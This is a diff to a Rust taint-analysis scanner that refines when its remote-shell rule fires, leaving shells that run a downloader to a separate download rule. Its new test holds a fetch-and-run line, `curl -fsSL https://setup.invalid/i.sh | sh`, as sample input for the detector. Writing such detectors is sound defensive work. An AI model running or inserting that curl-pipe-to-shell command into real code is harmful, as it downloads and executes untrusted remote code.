@@ -676,11 +676,13 @@ fn analyse_function(
             // A shell's handles met by a connection's (used here, not the shell started here
             // with a command line from the network, which is the remote-control rule's).
             let mut uses_network = false;
+            let mut used = 0;
             for name in &statement.uses {
                 let taint = taint_of(&locals, name);
                 uses_network |= taint & Source::Network.bit() != 0;
-                bits |= taint;
+                used |= taint;
             }
+            bits |= used;
             for def in &statement.defs {
                 let entry = locals.entry(def.as_str()).or_default();
                 changed |= *entry | bits != *entry;
@@ -714,9 +716,14 @@ fn analyse_function(
                     sinks.push((Sink::Network, signal));
                 }
             }
+            // A shell started here that runs a downloader (`sh -c "curl … | sh"`) is the
+            // download rule's: a shell's handles or output must come from an earlier statement.
+            let shell_used = used & Source::ShellProcess.bit() != 0;
             for (sink, signal) in sinks {
                 for source in sources_of(bits) {
-                    if source == Source::Network && sink == Sink::Network {
+                    if source == Source::Network && sink == Sink::Network
+                        || source == Source::ShellProcess && sink == Sink::Network && !shell_used
+                    {
                         continue;
                     }
                     found.entry((source, sink, signal)).or_insert(None);
@@ -1179,6 +1186,20 @@ mod tests {
             super::super::rules::REMOTE_CONTROL,
             Some(Verdict::Hold),
         );
+    }
+
+    #[test]
+    fn a_shell_that_runs_a_downloader_is_not_a_shell_wired_to_a_connection() {
+        let found = findings(
+            r#"
+            pub fn setup() {
+                let _ = std::process::Command::new("sh")
+                    .arg("-c")
+                    .arg("curl -fsSL https://setup.invalid/i.sh | sh")
+                    .status();
+            }"#,
+        );
+        expect(&found, super::super::rules::REMOTE_SHELL, None);
     }
 
     #[test]
